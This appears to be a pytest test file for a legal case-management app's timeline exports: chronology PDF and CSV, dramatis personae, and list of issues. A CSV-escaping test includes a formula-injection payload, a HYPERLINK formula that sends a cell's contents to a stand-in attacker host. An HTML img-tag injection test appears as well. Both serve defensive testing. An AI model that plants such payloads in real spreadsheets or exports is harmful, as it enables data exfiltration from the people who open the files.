"""The timeline's exports, opened and read: the chronology as PDF and CSV, the dramatis
personae and the list of issues. The chronology fixture (conftest.py) has MA-1, a letter, and
MA-2, an attorneys'-eyes-only API log that the expert never sees."""

import csv
import io
from datetime import UTC, date, datetime

import billiard
import pypdf
import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from casemgr.access.models import AuditAction, AuditEvent, Clearance
from casemgr.timeline import exports
from casemgr.timeline.models import Event
from tests.factories import (
    AllegationFactory,
    ClaimFactory,
    CourtFactory,
    EventFactory,
    EvidenceLinkFactory,
    JurisdictionFactory,
    PersonFactory,
    ProceedingFactory,
)

EXPORTS = [
    "export_chronology_pdf",
    "export_chronology_csv",
    "export_dramatis_personae_pdf",
    "export_list_of_issues_pdf",
]


@pytest.fixture
def download(client):
    def get(user, name, matter, **query):
        client.force_login(user)
        url = reverse(f"timeline:{name}", kwargs={"matter_pk": matter.pk})
        return client.get(url, query)

    return get


def pdf_pages(content: bytes) -> list[str]:
    """Each page's text, its lines joined: a cell's text wraps where its column ends."""
    pages = pypdf.PdfReader(io.BytesIO(content)).pages
    return [" ".join(page.extract_text().split()) for page in pages]


def pdf_text(content: bytes) -> str:
    return " ".join(pdf_pages(content))


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM that tells Excel it is UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def in_order(text: str, *parts: str) -> bool:
    """Each part found after the one before it."""
    at = 0
    for part in parts:
        at = text.find(part, at)
        if at < 0:
            return False
        at += len(part)
    return True


# --- The chronology as PDF -------------------------------------------------------------------


@time_machine.travel(datetime(2026, 3, 16, 10, 0, tzinfo=UTC))
def test_chronology_pdf_is_a_court_table_in_date_order(world, chronology, download):
    response = download(world.partner, "export_chronology_pdf", world.matter)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    number = world.proceeding.case_number
    assert response["Content-Disposition"] == (
        f'attachment; filename="{number} Claimant v Defendant - Chronology.pdf"'
    )
    text = pdf_text(response.content)
    # The heading: court, claim number, title, the day prepared; page numbers in the footer.
    assert "High Court of Justice (Intellectual Property List)" in text
    assert f"Claim No. {number}" in text
    assert "NWA-0001" in text
    assert "Prepared on 16 March 2026" in text
    assert "Page 1 of 1" in text
    for column in ("No.", "Date", "Event", "Agreed / disputed", "Exhibits"):
        assert column in text
    # Rows in date order, each date read to its precision, a hearing read from its table.
    assert in_order(
        text,
        "September 2025",
        "Terms of service v4.2 published",
        "3 November 2025",
        "Traffic spike from rotating accounts",
        "12 January 2026",
        "Letter before action sent",
        "9 March 2027",
        "Case management conference",
    )
    assert "09:00 London (UTC+0)" in text  # as the timeline shows it
    # Agreed and disputed, and the exhibits with their pinpoints and stances.
    spike = text[text.index("Traffic spike") :]
    assert in_order(text, "Agreed", "Traffic spike", "Disputed", "Letter before action")
    assert "MA-2, pp. 12–14" in spike
    assert "API access log" in spike
    assert "MA-1 (context)" in spike
    assert "Bears on ¶12" in spike


def test_chronology_header_repeats_on_every_page(world, download):
    for day in range(1, 61):
        EventFactory(
            matter=world.matter,
            date=date(2025, 1, 1).replace(month=1 + day % 12, day=1 + day % 28),
            title=f"Meeting number {day:02d} about the integration",
            description="A long description that the PDF leaves to the CSV.",
            created_by=world.partner,
        )

    pages = pdf_pages(download(world.partner, "export_chronology_pdf", world.matter).content)

    assert len(pages) > 1
    for number, page in enumerate(pages, 1):
        assert "Agreed / disputed" in page  # the table's header, repeated
        assert f"Page {number} of {len(pages)}" in page
        assert world.proceeding.case_number in page  # the running head


def test_strings_are_escaped_and_nothing_is_fetched(world, download, listener):
    title = f'<img src="{listener.url}/x.png"> & <b>bold</b>'
    EventFactory(matter=world.matter, title=title, created_by=world.partner)

    text = pdf_text(download(world.partner, "export_chronology_pdf", world.matter).content)

    assert title.replace(" ", "") in text.replace(" ", "")  # the column wraps it at the "/"
    assert listener.requests == []


# --- The chronology as CSV -------------------------------------------------------------------


def test_chronology_csv_has_the_columns_and_the_rows(world, chronology, download):
    chronology.spike.description = "Requests from 1,400 accounts in an hour."
    chronology.spike.save()

    response = download(world.partner, "export_chronology_csv", world.matter)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith(' - Chronology.csv"')
    header, *rows = csv_rows(response.content)
    assert header == list(exports.CSV_COLUMNS)
    by_column = [dict(zip(header, row, strict=True)) for row in rows]
    assert [row["Event"] for row in by_column] == [
        "Terms of service v4.2 published",
        "Traffic spike from rotating accounts",
        "Letter before action sent",
        "Case management conference",
    ]
    terms, spike, letter, hearing = by_column
    assert terms["Date"] == "September 2025"
    assert terms["Precision"] == "Month"
    assert (terms["First day"], terms["Last day"]) == ("2025-09-01", "2025-09-30")
    assert terms["Agreed/disputed"] == "Agreed"
    assert terms["Parties"] == "Northwind Intelligence Ltd"
    assert spike["Agreed/disputed"] == "Disputed"
    assert spike["Description"] == "Requests from 1,400 accounts in an hour."
    assert spike["Exhibits"] == "MA-1 (context) Letter; MA-2, pp. 12–14 API access log"
    assert spike["People"] == "Ada Quill"
    assert spike["Allegations"] == "¶12"
    assert letter["Time"] == "09:00 London (UTC+0)"
    assert letter["Kind"] == "Procedural step"
    assert letter["Parties"] == "Jadeport Commerce (UK) Ltd; Northwind Intelligence Ltd"
    assert hearing["Agreed/disputed"] == ""


def test_chronology_csv_cells_never_start_a_formula(world, download):
    EventFactory(
        matter=world.matter,
        title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        description="-2+3",
        created_by=world.partner,
    )
    EventFactory(matter=world.matter, title="@SUM(1+1)", description="+44 20 7946 0000")

    _, *rows = csv_rows(download(world.partner, "export_chronology_csv", world.matter).content)

    cells = [cell for row in rows for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert "'-2+3" in cells
    assert "'@SUM(1+1)" in cells
    assert "'+44 20 7946 0000" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("MA-2", "MA-2"), ("", ""), (3, "3")],
)
def test_csv_cell(value, written):
    assert exports.csv_cell(value) == written


# --- Clearance -------------------------------------------------------------------------------


@pytest.fixture
def privileged_meeting(world):
    return EventFactory(
        matter=world.matter,
        date=date(2025, 12, 1),
        title="Without-prejudice meeting",
        designation=Clearance.AEO,
        created_by=world.partner,
    )


@pytest.mark.parametrize("name", ["export_chronology_pdf", "export_chronology_csv"])
def test_an_exhibit_the_reader_cannot_see_is_never_named(
    world, chronology, privileged_meeting, download, name
):
    def read(user) -> str:
        content = download(user, name, world.matter).content
        return pdf_text(content) if name.endswith("pdf") else content.decode("utf-8-sig")

    partner, expert = read(world.partner), read(world.expert)

    for secret in ("MA-2", "API access log", "Without-prejudice meeting"):
        assert secret in partner
        assert secret not in expert
    # The expert still has the event, and the exhibit they may see beside it.
    assert "Traffic spike from rotating accounts" in expert
    assert "MA-1 (context)" in expert


# --- Filters ---------------------------------------------------------------------------------


def test_an_export_holds_what_the_filtered_timeline_shows(world, chronology, download):
    pdf = download(world.partner, "export_chronology_pdf", world.matter, status="disputed")
    csv_file = download(world.partner, "export_chronology_csv", world.matter, status="disputed")

    text = pdf_text(pdf.content)
    assert "Traffic spike from rotating accounts" in text
    assert "Terms of service" not in text
    assert "Letter before action" not in text
    assert "Case management conference" not in text  # hearings have no status
    assert "This chronology is filtered" in text
    assert "Status: Disputed" in text
    assert pdf["Content-Disposition"].endswith(' - Chronology (filtered).pdf"')
    _, *rows = csv_rows(csv_file.content)
    assert [row[6] for row in rows] == ["Traffic spike from rotating accounts"]


def test_filters_by_date_and_allegation(world, chronology, download):
    dated = download(
        world.partner,
        "export_chronology_csv",
        world.matter,
        date_from="2025-10-01",
        date_to="2026-01-31",
        kind="",  # left blank by the page's form: no filter
    )
    by_allegation = download(
        world.partner, "export_chronology_pdf", world.matter, allegation=world.allegation.pk
    )

    assert [row[6] for row in csv_rows(dated.content)[1:]] == [
        "Traffic spike from rotating accounts",
        "Letter before action sent",
    ]
    text = pdf_text(by_allegation.content)
    assert "Traffic spike" in text
    assert "Terms of service" not in text
    assert "Allegation: paragraph 12" in text


def test_unreadable_filters_are_refused(world, download):
    response = download(world.partner, "export_chronology_pdf", world.matter, date_from="soon")

    assert response.status_code == 400
    assert "date_from" in response.content.decode()
    assert not AuditEvent.objects.filter(action=AuditAction.DOWNLOAD).exists()


# --- Dramatis personae and list of issues ----------------------------------------------------


def test_dramatis_personae_groups_people_by_party(world, download):
    world.person.role = "Chief Technology Officer"
    world.person.notes = "Signed the terms of service v4.2."
    world.person.save()
    PersonFactory(
        matter=world.matter, party=world.defendant, name="Bo Lindqvist", role="Head of Data"
    )
    PersonFactory(matter=world.matter, name="Dr Cy Okafor", organisation="Independent")
    PersonFactory(matter=world.other_matter, name="Someone Elsewhere")

    response = download(world.partner, "export_dramatis_personae_pdf", world.matter)

    assert response["Content-Disposition"].endswith(' - Dramatis personae.pdf"')
    text = pdf_text(response.content)
    assert "DRAMATIS PERSONAE" in text
    assert in_order(
        text,
        "Northwind Intelligence Ltd (Claimant)",
        "Ada Quill",
        "Chief Technology Officer",
        "Signed the terms of service v4.2.",
        "Jadeport Commerce (UK) Ltd (Defendant)",
        "Bo Lindqvist",
        "Head of Data",
        "Not connected with a party",
        "Dr Cy Okafor",
        "Independent",
    )
    assert "Someone Elsewhere" not in text


def test_list_of_issues_gives_each_claims_allegations_and_responses(world, chronology, download):
    chronology.denied.response_note = "The Defendant says its access was authorised."
    chronology.denied.save()
    second = ClaimFactory(proceeding=world.proceeding, cause_of_action="Breach of contract")
    second.claimants.set([world.claimant])
    second.defendants.set([world.defendant])
    AllegationFactory(claim=second, paragraph="30", text="The Defendant scraped the catalogue.")

    response = download(world.partner, "export_list_of_issues_pdf", world.matter)

    assert response["Content-Disposition"].endswith(' - List of issues.pdf"')
    text = pdf_text(response.content)
    assert in_order(
        text,
        "1. Breach of confidence",
        "3 allegations, 2 in issue",
        "12",
        "Denied",
        "13",
        "Denied",
        "The Defendant says its access was authorised.",
        "14",
        "Admitted",
        "2. Breach of contract",
        "30",
        "The Defendant scraped the catalogue.",
        "No response yet",
    )
    assert "Northwind Intelligence Ltd v Jadeport Commerce (UK) Ltd" in text


@pytest.fixture
def parallel_proceedings(world):
    """The High Court claim, with the US action and the Beijing case beside it."""
    world.proceeding.court = CourtFactory(
        division="Business and Property Courts – Intellectual Property List (ChD)"
    )
    world.proceeding.save()
    us = CourtFactory(
        name="United States District Court for the Northern District of California",
        division="",
        jurisdiction=JurisdictionFactory(
            code="us-fed", name="United States (federal)", time_zone="America/Los_Angeles"
        ),
    )
    beijing = CourtFactory(
        name="Beijing Intellectual Property Court",
        division="",
        jurisdiction=JurisdictionFactory(code="cn", name="China", time_zone="Asia/Shanghai"),
    )
    for court, number, title in [
        (us, "3:26-cv-04417", "Northwind v Jadeport Holdings"),
        (beijing, "(2026) Jing 73 Min Chu No. 118", "Jadeport v Northwind"),
    ]:
        proceeding = ProceedingFactory(
            matter=world.matter,
            court=court,
            case_number=number,
            title=title,
            issued_on=date(2026, 5, 4),
        )
        claim = ClaimFactory(proceeding=proceeding, cause_of_action=f"Claim in {court.name}")
        claim.claimants.set([world.claimant])
        claim.defendants.set([world.defendant])
    return world.proceeding.case_number


@pytest.mark.parametrize("name", ["export_chronology_pdf", "export_list_of_issues_pdf"])
def test_each_case_number_stands_under_its_own_court(world, download, parallel_proceedings, name):
    text = pdf_text(download(world.partner, name, world.matter).content)
    flat = " ".join(text.split())
    # The court as it spells itself, with its own claim number under it.
    assert in_order(
        flat,
        "High Court of Justice (Business and Property Courts – Intellectual Property List (ChD))",
        f"Claim No. {parallel_proceedings}",
    )
    assert "(CHD)" not in flat
    # The US and PRC numbers are cases of their own courts, never High Court claims.
    assert in_order(
        flat,
        "Parallel proceedings",
        "United States District Court for the Northern District of California, Case No. "
        "3:26-cv-04417",
        "Beijing Intellectual Property Court, Case No. (2026) Jing 73 Min Chu No. 118",
    )
    assert "Claim No. 3:26-cv-04417" not in flat
    assert "Claim No. (2026) Jing" not in flat


def test_the_list_of_issues_names_each_claims_court(world, download, parallel_proceedings):
    text = pdf_text(download(world.partner, "export_list_of_issues_pdf", world.matter).content)
    flat = " ".join(text.split())
    assert in_order(
        flat,
        "Claim in Beijing Intellectual Property Court",
        "Beijing Intellectual Property Court, Case No. (2026) Jing 73 Min Chu No. 118:",
    )


# --- Who may download, and the audit trail ---------------------------------------------------


@pytest.mark.parametrize("name", EXPORTS)
def test_outsiders_get_404(world, download, name):
    response = download(world.outsider, name, world.matter)

    assert response.status_code == 404
    assert AuditEvent.objects.filter(action=AuditAction.DENIED, actor=world.outsider).exists()
    assert not AuditEvent.objects.filter(action=AuditAction.DOWNLOAD).exists()


def test_signed_out_readers_are_sent_to_sign_in(world, client):
    url = reverse("timeline:export_chronology_csv", kwargs={"matter_pk": world.matter.pk})

    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("name", EXPORTS)
def test_each_download_is_audited(world, chronology, download, name):
    response = download(world.expert, name, world.matter, status="disputed")

    assert response.status_code == 200
    event = AuditEvent.objects.get(action=AuditAction.DOWNLOAD)
    assert event.actor == world.expert
    assert event.matter == world.matter
    assert event.detail["filename"] in response["Content-Disposition"]
    if "chronology" in name:
        assert event.detail["filters"] == {"status": "disputed"}


def test_short_case_name():
    assert (
        exports.short_case_name(
            "Northwind Intelligence, Inc. and another v Jadeport Commerce (UK) Ltd"
        )
        == "Northwind v Jadeport"
    )
    assert exports.short_case_name("Re Northwind") == "Re Northwind"


def test_file_names_are_safe(world, chronology):
    world.proceeding.title = 'Northwind/"Quill" v Jadeport: <UK>'
    world.proceeding.save()

    made = exports.chronology_csv(matter=world.matter, user=world.partner)

    assert (
        made.filename
        == f"{world.proceeding.case_number} Northwind Quill v Jadeport - Chronology.csv"
    )


def test_an_event_of_each_precision_reads_as_a_court_would_date_it(world):
    EventFactory(
        matter=world.matter,
        date=date(2025, 10, 14),
        precision=Event.Precision.RANGE,
        date_end=date(2026, 1, 27),
        title="Negotiations",
        created_by=world.partner,
    )
    EventFactory(
        matter=world.matter,
        date=date(2025, 6, 3),
        precision=Event.Precision.APPROXIMATE,
        title="First contact",
        created_by=world.partner,
    )
    EventFactory(
        matter=world.matter,
        date=date(2024, 5, 5),
        precision=Event.Precision.YEAR,
        title="Founded",
        created_by=world.partner,
    )

    rows = exports.chronology_rows(matter=world.matter, user=world.partner)

    assert [(row.date, row.precision, row.event) for row in rows[:3]] == [
        ("2024", "Year", "Founded"),
        ("about 3 June 2025", "On or about", "First contact"),
        ("14 October 2025 – 27 January 2026", "Range of days", "Negotiations"),
    ]


def test_the_chronology_export_runs_the_same_queries_whatever_its_size(world, chronology, client):
    client.force_login(world.partner)
    url = reverse("timeline:export_chronology_csv", kwargs={"matter_pk": world.matter.pk})

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured)

    small = queries()
    for number in range(30):
        event = EventFactory(matter=world.matter, title=f"Call {number}", created_by=world.partner)
        event.people.set([world.person])
        event.allegations.set([world.allegation])
        EvidenceLinkFactory(exhibit=chronology.letter, event=event, pages=str(1 + number % 3))

    assert queries() == small


def test_an_allegation_of_one_unbroken_run_at_the_limit_is_laid_out_whole(world, download):
    """A pasted hash or URL as long as the field allows wraps inside its column; its
    characters all reach the page, and the zero-width break points add none a reader sees."""
    from casemgr.core.limits import LONG_TEXT

    run = "".join(f"{n:05d}" for n in range(LONG_TEXT // 5))
    AllegationFactory(claim=world.claim, paragraph="31", text=run)

    response = download(world.partner, "export_list_of_issues_pdf", world.matter)

    assert response.status_code == 200
    pages = pypdf.PdfReader(io.BytesIO(response.content)).pages
    laid_out = "".join("".join(page.extract_text().split()) for page in pages)
    body = laid_out.replace("\u200b", "")
    missing = [n for n in range(0, LONG_TEXT // 5, 7) if f"{n:05d}" not in body]
    assert not missing, f"groups not on any page: {missing[:10]}"
    assert len(pages) < 10


# --- A layout past its budget ----------------------------------------------------------------

PDF_EXPORTS = [name for name in EXPORTS if name.endswith("_pdf")]


@pytest.mark.parametrize("name", PDF_EXPORTS)
def test_an_export_past_its_time_budget_is_stopped_with_a_page_that_says_why(
    world, chronology, download, monkeypatch, name
):
    monkeypatch.setattr(exports, "LAYOUT_SECONDS", 0.001)  # no layout is that quick

    response = download(world.partner, name, world.matter)

    assert response.status_code == 503
    assert response["Content-Type"].startswith("text/html")
    page = response.content.decode()
    assert "could not be made" in page
    assert "took longer than 0.001 seconds, so it was stopped" in page
    assert billiard.active_children() == []  # the layout was killed, not left running
    assert not AuditEvent.objects.filter(action=AuditAction.DOWNLOAD).exists()


def test_a_long_allegation_starts_where_it_falls_instead_of_leaving_a_gap(world, download):
    # Kept whole, a row of most of a page jumps to the next one and leaves the rest of this
    # page empty (and costs a third of the layout); a long row simply runs on.
    claim = ClaimFactory(proceeding=world.proceeding, cause_of_action="Breach of confidence")
    AllegationFactory(claim=claim, paragraph="1", text="The Claimant operates an API.")
    long_text = "Opening words. " + "The Defendant sent templated prompts. " * 95
    AllegationFactory(claim=claim, paragraph="2", text=long_text)

    pages = pdf_pages(download(world.partner, "export_list_of_issues_pdf", world.matter).content)

    assert "Opening words." in pages[0]
    assert len(pages) == 2
